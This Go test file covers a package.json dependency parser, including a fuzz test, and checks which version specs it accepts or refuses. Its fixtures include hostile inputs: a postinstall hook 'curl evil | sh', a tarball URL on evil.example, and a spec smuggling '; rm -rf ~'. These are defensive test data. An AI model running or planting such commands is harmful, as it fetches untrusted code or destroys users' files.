package deps

import (
	"encoding/json"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func TestParse(t *testing.T) {
	deps, err := Parse([]byte(`{
		"name": "x", "scripts": {"postinstall": "curl evil | sh"},
		"dependencies": {"react": "^19.0.0", "@radix-ui/react-slot": "1.2.3", "lodash": "latest", "zod": "3.x || 4"},
		"devDependencies": {"vite": ">=7 <9", "@vitejs/plugin-react": "*", "typescript": "~5.9.2-rc"}
	}`))
	require.NoError(t, err)
	assert.Equal(t, Set{
		"react": "^19.0.0", "@radix-ui/react-slot": "1.2.3", "lodash": "latest", "zod": "3.x || 4",
		"vite": ">=7 <9", "@vitejs/plugin-react": "*", "typescript": "~5.9.2-rc",
	}, deps)

	bad := []struct{ json, code, why string }{
		{`{"dependencies": {"x": "git+https://github.com/a/b.git"}}`, CodeBadDependency, "refused"},
		{`{"dependencies": {"x": "github:a/b"}}`, CodeBadDependency, "refused"},
		{`{"dependencies": {"x": "a/b"}}`, CodeBadDependency, "refused"},
		{`{"dependencies": {"x": "file:.."}}`, CodeBadDependency, "refused"},
		{`{"dependencies": {"x": "link:../y"}}`, CodeBadDependency, "refused"},
		{`{"dependencies": {"x": "https://evil.example/x.tgz"}}`, CodeBadDependency, "refused"},
		{`{"dependencies": {"x": "workspace:*"}}`, CodeBadDependency, "refused"},
		{`{"dependencies": {"x": "npm:../y"}}`, CodeBadDependency, "refused"},
		{`{"dependencies": {"x": ".."}}`, CodeBadDependency, "refused"},
		{`{"dependencies": {"x": "canary.tgz"}}`, CodeBadDependency, "refused"},
		{`{"dependencies": {"x": "1.0.0; rm -rf ~"}}`, CodeBadDependency, "refused"},
		{`{"dependencies": {"x": 1}}`, CodeBadDependency, "must be a string"},
		{`{"dependencies": {"../x": "1"}}`, CodeBadDependency, "dependency name"},
		{`{"dependencies": {"React": "1"}}`, CodeBadDependency, "lowercase"},
		{`{"dependencies": {"@scope": "1"}}`, CodeBadDependency, "@scope/name"},
		{`{"dependencies": {".bin": "1"}}`, CodeBadDependency, "must not start"},
		{`{"dependencies": [1]}`, CodeBadJSON, "packageJson"},
		{`{"dependencies": `, CodeBadJSON, "packageJson"},
	}
	for _, tt := range bad {
		_, err := Parse([]byte(tt.json))
		var re *InvalidError
		require.ErrorAs(t, err, &re, tt.json)
		assert.Equal(t, tt.code, re.Code, tt.json)
		assert.Contains(t, err.Error(), tt.why, tt.json)
	}
}

func FuzzParse(f *testing.F) {
	f.Add([]byte(`{"dependencies":{"react":"^19"}}`))
	f.Add([]byte(`{"devDependencies":{"@a/b":"git:x"}}`))
	f.Add([]byte(`{"dependencies":{"a":"1 || >=2.0.0-rc <3"}}`))
	f.Fuzz(func(t *testing.T, data []byte) {
		deps, err := Parse(data)
		if err != nil {
			return
		}
		for name, spec := range deps {
			if !readsAsRegistry(spec) || strings.Contains(name, "..") || strings.HasPrefix(name, ".") {
				t.Fatalf("accepted %q: %q", name, spec)
			}
		}
		// What is accepted makes a valid package.json.
		var back map[string]any
		if err := json.Unmarshal(deps.PackageJSON(), &back); err != nil {
			t.Fatal(err)
		}
	})
}

func TestSetKey(t *testing.T) {
	a := Set{"react": "^19", "vite": "^8"}
	b := Set{"vite": "^8", "react": "^19"}
	assert.Equal(t, a.Key(), b.Key(), "order does not matter")
	assert.NotEqual(t, a.Key(), Set{"react": "^18", "vite": "^8"}.Key())
	assert.NotEqual(t, Set{"ab": "c"}.Key(), Set{"a": "bc"}.Key(), "names and specs are separated")
	assert.Equal(t, DefaultVite, Set{"react": "1"}.WithDefaults()["vite"])
	assert.Equal(t, "^7", Set{"vite": "^7"}.WithDefaults()["vite"])
}
